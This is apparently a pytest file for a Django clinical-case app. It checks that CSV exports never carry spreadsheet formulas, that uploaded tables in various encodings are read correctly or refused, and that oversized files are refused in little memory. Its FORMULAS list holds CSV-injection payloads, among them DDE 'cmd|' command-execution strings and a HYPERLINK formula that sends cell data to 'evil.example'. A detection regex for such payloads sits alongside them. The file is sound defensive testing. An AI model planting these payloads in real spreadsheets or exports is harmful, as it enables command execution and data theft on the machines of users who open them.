"""Tables in and out: no cell is ever a formula, every encoding is read right or refused, and none fills the memory."""

import codecs
import csv
import io
import re
import subprocess
import sys
from datetime import date

import pytest
from django.test import Client

from cases.csv_rows import safe_cell
from cases.imports.refused import ImportRefused
from cases.imports.sheet import read_sheet
from cases.models import Patient
from cases.services.export_patients import export_patients
from cases.services.import_patients import import_patients
from tests.cases.services.imports import checked, picture
from tests.factories import CaseFactory, LesionImageFactory, PatientFactory
from tests.flows.processes import ROOT

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/"&A1,"result")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # noqa: RUF001
    "Ann;=1+1",
    "Ann\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
)
RUNS = re.compile(r"^[\s\u200b\ufeff\x00]*[=+\-@＝＋－＠]|[;\t\n]\s*[=+\-@＝＋－＠]")  # noqa: RUF001
MEGABYTES_ON_A_REFUSAL = 64


def cells_of(answer) -> list[str]:
    """Every cell of a CSV that was sent."""
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_leaves_as_one(formula):
    assert RUNS.search(formula)
    assert not RUNS.search(safe_cell(formula))


@pytest.mark.django_db
def test_no_export_of_the_record_holds_a_formula(clinic_a, ana, admin_a):
    typed = [formula for formula in FORMULAS if "\x00" not in formula]
    for number, formula in enumerate(typed):
        patient = PatientFactory(
            clinic=clinic_a, record_number=f"={number}+1", name=formula, notes=formula, birth_date=date(1960, 1, 1)
        )
        case = CaseFactory(lesion__patient=patient, lesion__description=formula, opened_by=ana, reason=formula)
        LesionImageFactory(case=case)
    run = checked(ana, {"a.jpg": picture(1)}, "file,patient,site\n=cmd|x,P-1,face\na.jpg,P-1,=moon\n")
    seen = 0
    for person, addresses in (
        (ana, ("/worklist/export/?tab=all", "/api/worklist/export/", f"/imports/{run.pk}/errors.csv")),
        (admin_a, ("/api/patients/csv/",)),
    ):
        browser = Client()
        browser.force_login(person)
        for address in addresses:
            answer = browser.get(address)
            assert answer.status_code == 200, address
            cells = cells_of(answer)
            seen += len(cells)
            assert [cell for cell in cells if RUNS.search(cell)] == [], address
    assert seen > 200


@pytest.mark.django_db
def test_what_was_made_safe_comes_back_as_it_was(clinic_a, admin_a):
    names = [" ".join(formula.split()) for formula in FORMULAS if "\x00" not in formula]
    rows = "".join(f'P-{number},"{name.replace(chr(34), chr(34) * 2)}"\r\n' for number, name in enumerate(names))
    assert import_patients(clinic=clinic_a, data=f"record_number,name\r\n{rows}".encode(), by=admin_a).stored
    before = dict(Patient.objects.values_list("record_number", "name"))
    out = io.StringIO(newline="")
    csv.writer(out).writerows(
        [[safe_cell(c) for c in row] for row in export_patients(patients=Patient.objects.all(), by=admin_a)]
    )
    from cases.services.export_patients import COLUMNS

    again = ",".join(COLUMNS) + "\r\n" + out.getvalue()
    assert import_patients(clinic=clinic_a, data=again.encode(), by=admin_a).unchanged == len(names)
    assert dict(Patient.objects.values_list("record_number", "name")) == before


TABLE = "file,patient\na.jpg,Zoë Δ 王\n"


@pytest.mark.parametrize(
    "data",
    [
        TABLE.encode(),
        codecs.BOM_UTF8 + TABLE.encode(),
        TABLE.encode("utf-16"),
        codecs.BOM_UTF16_LE + TABLE.encode("utf-16-le"),
        codecs.BOM_UTF16_BE + TABLE.encode("utf-16-be"),
        TABLE.replace("\n", "\r\n").encode(),
        TABLE.replace("\n", "\r").encode(),
    ],
    ids=["UTF-8", "BOM", "UTF-16", "little end", "big end", "CRLF", "CR"],
)
def test_what_can_be_read_is_read_right(data):
    assert [cells for _, cells in read_sheet(data).lines] == [["a.jpg", "Zoë Δ 王"]]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        ("file,patient\na.jpg,Zoë\n".encode("latin-1"), "sheet_encoding"),
        ("file,patient\na.jpg,Zoë\n".encode("cp1252"), "sheet_encoding"),
        (codecs.BOM_UTF16_LE + b"f\0i\0l\0e\0", "sheet_empty"),
        (codecs.BOM_UTF16_LE + b"\0\xd8a\0", "sheet_encoding"),
        ("file,patient\na.jpg,Zoe\n".encode("utf-16-le"), "sheet_unreadable"),
        ("file,patient\na.jpg,Zoe\n".encode("utf-32"), "sheet_unreadable"),
        (b"file,patient\na.jpg,\0\n", "sheet_unreadable"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "sheet_encoding"),
        (b"PK\x03\x04\x14\0\0\0", "sheet_unreadable"),
        (b"file,patient\n" + b"x" * 2_000_000, "sheet_unreadable"),
        (b"file\n" + b"a," * 600_000, "sheet_unreadable"),
        (b'file,patient\n"' + b"x\n" * 200_000, "sheet_unreadable"),
        (b"file\n" + b"\n" * 300_000, "sheet_empty"),
        (b"\n" * 1000, "sheet_empty"),
    ],
    ids=[
        *("latin-1", "cp1252", "half a table", "half a letter", "UTF-16 without BOM", "UTF-32", "NUL", "PNG", "ZIP"),
        *("one long line", "a line of columns", "an open quote", "empty lines", "nothing else"),
    ],
)
def test_what_cannot_be_read_is_refused_in_a_sentence(data, code):
    with pytest.raises(ImportRefused) as refused:
        list(read_sheet(data).lines)
    assert refused.value.code == code
    assert refused.value.messages[0].endswith(".")


LARGE = {
    "sheet_encoding": "b'file,patient\\n' + (b'a.jpg,' + b'x' * 490 + b'\\n') * 199_000 + b'\\xe9\\n'",
    "sheet_too_long": "b'file\\n' + b'a.jpg, and a good deal more to say\\n' * 2_700_000",
    "sheet_too_large": "b'file\\n' + b'a.jpg\\n' * 17_000_000",
    "sheet_unreadable": "b'file\\n' + (b'a.jpg' + b',' * 400 + b'x' * 100 + b'\\n') * 190_000 + b'\"'",
}
MEASURED = """
import os, resource, sys, tempfile
os.environ["DJANGO_SETTINGS_MODULE"] = "tests.settings"
import django
django.setup()
from cases.imports.refused import ImportRefused
from cases.imports.sheet import read_sheet
with tempfile.TemporaryFile() as table:
    for number in range(1):
        child = os.fork()
        if child == 0:
            table.write({content})
            table.flush()
            os._exit(0)
        os.waitpid(child, 0)
    size = os.fstat(table.fileno()).st_size
    open("/proc/self/clear_refs", "w").write("5")
    status = lambda what: int(next(l for l in open("/proc/self/status") if l.startswith(what)).split()[1])
    before = status("VmRSS")
    code = ""
    try:
        sum(1 for _ in read_sheet(table).lines)
    except ImportRefused as refusal:
        code = refusal.code
    print(code, size, status("VmHWM") - before)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="looks into /proc")
@pytest.mark.parametrize(
    "code", [pytest.param(code, marks=[pytest.mark.long] * (code != "sheet_encoding")) for code in LARGE]
)
def test_a_table_of_a_hundred_megabytes_is_refused_in_little_memory(code):
    program = MEASURED.replace("{content}", LARGE[code])
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=True)
    said, size, grown = done.stdout.split()
    assert said == code
    assert int(size) > 90_000_000
    assert int(grown) < MEGABYTES_ON_A_REFUSAL * 1024


@pytest.mark.long
def test_a_table_as_large_as_allowed_is_read_in_little_memory():
    content = "b'file,notes\\n' + (b'a.jpg,' + b'x' * 480 + b'\\n') * 199_999"
    program = MEASURED.replace("{content}", content)
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=True)
    assert int(done.stdout.split()[-1]) < MEGABYTES_ON_A_REFUSAL * 1024
